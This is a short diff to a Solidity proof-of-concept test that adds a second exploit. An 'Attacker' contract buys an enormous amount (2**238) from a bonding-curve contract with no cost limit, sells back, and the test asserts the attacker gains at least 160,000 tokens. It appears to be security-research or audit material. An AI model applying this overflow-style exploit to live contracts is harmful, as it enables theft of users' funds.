@@ -101,6 +101,15 @@ contract Proof {
         require(money.balanceOf(address(mallory)) >= 139_000e18, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.wrap();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(money.balanceOf(address(mallory)) >= 160_000e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(curve);
     }
@@ -127,5 +136,10 @@ contract Attacker {
         money.approve(address(curve), type(uint256).max);
         curve.buy(200, type(uint256).max, block.timestamp);
         curve.sell(200, 0, block.timestamp);
+    }
+
+    function wrap() external {
+        curve.buy(2 ** 238, 0, block.timestamp);
+        curve.sell(150, 0, block.timestamp);
     }
 }
